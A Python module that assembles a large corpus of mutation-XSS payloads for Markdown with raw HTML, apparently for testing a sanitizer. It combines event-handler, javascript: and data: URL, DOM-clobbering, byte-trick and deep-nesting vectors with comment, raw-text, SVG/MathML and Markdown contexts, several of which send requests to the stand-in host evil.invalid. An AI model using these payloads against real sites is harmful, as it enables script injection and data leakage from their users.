"""Payloads of mutation XSS in Markdown with raw HTML: each context with each vector, and others written by hand.

A vector calls `ran()`, or requests something from evil.invalid, as soon as a browser finds it as markup. A context is text in which a sanitizer and a
browser could disagree about where markup begins. Vectors contain no double quotation marks, so that they fit into quoted attributes.
"""

import html

VECTORS = [
    # Event handlers that need no reader.
    "<img src=x onerror=ran()>", "<svg onload=ran()>", "<svg><animate onbegin=ran() attributeName=x dur=1s></svg>", "<details open ontoggle=ran()>x</details>",
    "<video src=x onerror=ran()></video>", "<video><source src=x onerror=ran()></video>", "<audio src=x onerror=ran()></audio>", "<body onload=ran()>",
    "<input autofocus onfocus=ran()>", "<marquee onstart=ran()>x</marquee>", "<style onload=ran()>b{}</style>", "<b onanimationstart=ran() style='animation:x'>x</b>",
    "<IMG/SRC='x'/ONERROR=ran()>", "<img\tsrc=x\nonerror\n=\nran()>", "<div contenteditable autofocus tabindex=0 onfocus=ran()>x</div>",
    # Scripts, and documents that contain them.
    "<script>ran()</script>", "<SCRIPT/x>ran()</SCRIPT/x>", "<svg><script>ran()</script></svg>", "<svg><script href='data:text/javascript,ran()'></script></svg>",
    "<iframe src='javascript:parent.ran()'></iframe>", "<iframe srcdoc='<script>parent.ran()</script>'></iframe>", "<object data='javascript:ran()'></object>",
    "<embed src='javascript:ran()'>", "<object data='data:text/html,<script>parent.ran()</script>'></object>",
    "<template shadowrootmode=open><img src=x onerror=ran()></template>",
    # Requests and navigation.
    "<link rel=stylesheet href=//evil.invalid/a.css>", "<style>@import'//evil.invalid/b.css';</style>", "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>", "<form action=//evil.invalid/ id=f><button autofocus onfocus=form.submit()></button></form>",
    "<iframe src=//evil.invalid/></iframe>", "<svg><image href=//evil.invalid/c.png></svg>", "<svg><use href=//evil.invalid/d.svg#x></svg>",
    "<p style=background:url(//evil.invalid/e.png)>x</p>", "<table background=//evil.invalid/f.png><tr><td>x</table>", "<input type=image src=//evil.invalid/g.png>",
    "<link rel=prefetch href=//evil.invalid/h>", "<a href='javascript:ran()'>x</a>", "<a href='java&#10;script:ran()'>x</a>", "<a href=//evil.invalid/ ping=//evil.invalid/>x</a>",
]

CONTEXTS = [
    "{v}", "a {v} b", "<div>{v}</div>", "<p>{v}",
    # The ends of comments, and what browsers treat as a comment.
    "<!-->{v}-->", "<!--->{v}-->", "<!-- a --!>{v}-->", "<!-- a -- >{v}-->", "<!--a--->{v}", "<?a>{v}?>", "<![CDATA[>{v}]]>", "<!a>{v}", "</ >{v}", "</>{v}", "<!--<!--{v}--",
    "<<!-- -->{w}", "<!--:::-->{v}", "<!--:::=0-->{v}", "a <!-- b -->{v}<!-- -->",
    # Elements in which browsers recognize no tags.
    '<noscript><p title="</noscript>{v}">', "<noscript><style></noscript>{v}</style>", '<title><p title="</title>{v}">', "<textarea></textarea>{v}", '<textarea><p title="</textarea>{v}">',
    "<style><!--</style>{v}-->", '<style><a title="</style>{v}">', '<xmp><p title="</xmp>{v}">', '<iframe><p title="</iframe>{v}"></iframe>', "<noembed></noembed>{v}",
    "<noframes><noframes></noframes>{v}", "<plaintext>{v}", "<script><!--<script></script>{v}</script>", "<template>{v}</template>", "<title/>{v}</title>",
    '<select><style></select><p title="</style>{v}">', "<option><style></option></select>{v}</style>",
    # SVG and MathML, in which styles and comments are read in another way.
    '<svg></p><style><a id="</style>{v}">', "<svg><desc>{v}", "<svg><title><title>{v}", "<svg><foreignObject><p>{v}", "<svg><style><!--{v}--></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><p title="--&gt;{e}">', "<math><mi><mglyph><style>{v}</style>", '<math><annotation-xml encoding="text/html">{v}',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>{v}">', "<math><mtext></p><b><table><a><style><mtext>{v}",
    "<svg><p><style><!--</style>{v}", "<math></p><style>{v}</style></math>",
    # Attributes.
    '<p title="{v}">x</p>', "<p title=\"'{v}\">x</p>", '<p title=`{v}`>x</p>', '<p title="&quot;&gt;{e}">x</p>', '<p title="a\n\n{v}">', "<p a={v}>", '<p a="b"c="{v}">', '<p "{v}">', "<p/{v}>",
    '<a href="x?{v}">x</a>', '<img alt="{v}" src=x.png>', '<p title="{v}', "<p title='\"{v}'>", '<p class="a"id="{v}">',
    # Character references.
    "{e}", "<p>{e}</p>", "&amp;lt;{e}", "&lt{v}",
    # Tables, lists, and nesting that browsers correct.
    "<table>{v}</table>", "<table><tr><td>{v}</table>", "<table><caption><svg>{v}", "<ul><li><div><li>{v}", "</div></div></section></body></html>{v}", "<a><div><a>{v}",
    "<b><p><b><p>{v}", "<select><option>{v}</select>", "<button><button>{v}", "<form><form>{v}",
    # Markdown that changes what is HTML.
    "*{v}*", "# {v}", "> {v}", "- {v}", "|a|\n|-|\n|{v}|", "[{v}](x.png)", '![{v}](x.png "{v}")', "`<b title=\"`{v}\">", "<b title=\"\n\n{v}\">", "- <title>\n\n  {v}\n\n</title>",
    "~~<b title=\"~~{v}\">~~", "[^1]\n\n[^1]: {v}", "<!--\n\n-->{v}", "<div\n{v}>", "\\<b>{v}", "**<b title='**{v}'>", "<title>\n\n{v}\n\n</title>", "a <title> *b* {v}</title>",
]

WRITTEN = [
    # Comments that join text into tags.
    "<!--:::--><<!-- -->script>ran()<<!-- -->/script>", "<div><title><<!-- -->img src=x onerror=ran()></div>", "<scr<!-- -->ipt>ran()</scr<!-- -->ipt>",
    "<im<!-- -->g src=x onerror=ran()>", "<<?x?>script>ran()</script>", "<<![CDATA[]]>img src=x onerror=ran()>", "<p><!-- --<!-- -->><img src=x onerror=ran()>",
    # Attributes that become tags.
    '<iframe srcdoc="<script>parent.ran()</script>"></iframe>', '<textarea placeholder="<svg onload=ran()>"></textarea>', '<x title="</x><img src=x onerror=ran()>">',
    '<b title="--><img src=x onerror=ran()>">x</b>', '<svg title="</svg><img src=x onerror=ran()>">', "<p title=\"</p><img src=x onerror=ran()>\" class='\"><img src=x onerror=ran()>'>",
    # Names.
    "<img name=cookie><img name=getElementById>", "<form id=x><input name=attributes></form>", "<a id=ran href=x.png>x</a>", "<img id=document name=body>", "<a name=forms>x</a>",
    # Deep nesting, where browsers change the structure.
    "<div>" * 600 + "<img src=x onerror=ran()>", "<b>" * 300 + "<table>" * 30 + "<img src=x onerror=ran()>", "<a>" * 200 + "</a>" * 400 + "<img src=x onerror=ran()>",
    "> " * 90 + "<div>" * 90 + "<img src=x onerror=ran()>", "<svg>" * 200 + "<style><img title='</style><img src=x onerror=ran()>'>", "</div>" * 500 + "<script>ran()</script>",
    "<table><tr><td>" * 40 + "<script>ran()</script>", "<ul><li>" * 60 + "</ul>" * 100, "<p><span>" * 60 + "<div></section>", "<table><tr><table><tr><td>" * 20 + "</table>" * 100,
    # Bytes that parsers treat in different ways.
    "<img\0src=x onerror=ran()>", "<im\0g src=x onerror=ran()>", "<\0script>ran()</script>", "<img src=x\x0conerror=ran()>", "<img src=x\x0bonerror=ran()>", "<img src=x \x00onerror=ran()>",
    "\u212aimg src=x>", "<ſcript>ran()</ſcript>", "<ımg src=x onerror=ran()>", "<a href=\"\x01javascript:ran()\">x</a>", "<a href=\"java\0script:ran()\">x</a>",
    "\ufeff<img src=x onerror=ran()>", "<img src='x' onerror\u00a0=ran()>", "<img src=x onerror=\u2028ran()>",
    # URLs.
    "<a href='&#x6A;avascript&colon;ran()'>x</a>", "<a href='jav&Tab;ascript:ran()'>x</a>", "<a href='&NewLine;javascript:ran()'>x</a>", "[x](javascript:ran())",
    "[x](<java\tscript:ran()>)", "[x][y]\n\n[y]: <&#106;avascript:ran()>", "<javascript:ran()>", "![x](data:image/svg+xml,<svg/onload=ran()>)", "<img src='data:image/svg+xml,<svg onload=ran()>'>",
    "<a href='data:text/html,<script>ran()</script>'>x</a>", "<a href=blob:x>x</a>", "<a href=view-source:x>x</a>", "<img srcset='x.png 1x, javascript:ran() 2x'>",
    "<video poster=javascript:ran()></video>", "<q cite=javascript:ran()>x</q>", "<a href=x.png target=_blank rel=opener>x</a>", "<a href=x.png target=evil>x</a>",
    # Components and directives.
    ":::a\n</div>{v}\n:::".replace("{v}", "<img src=x onerror=ran()>"), "<div title=\"\n:::\n<img src=x onerror=ran()>\">", "<!--:::0--><img src=x onerror=ran()>", "<title>\n:::note\n</title><script>ran()</script>\n:::",
    "[!NOTE]\n> [!NOTE]<img src=x onerror=ran()>\n> x", "<!-- broadside-ignore raw-html: x --><script>ran()</script>", "<!--more--><script>ran()</script>",
]


def split(vector: str) -> str:
    """The vector without the `<` at its beginning."""
    return vector[1:]


PAYLOADS = [
    context.replace("{v}", vector).replace("{e}", html.escape(vector)).replace("{w}", split(vector)) for context in CONTEXTS for vector in VECTORS
] + WRITTEN
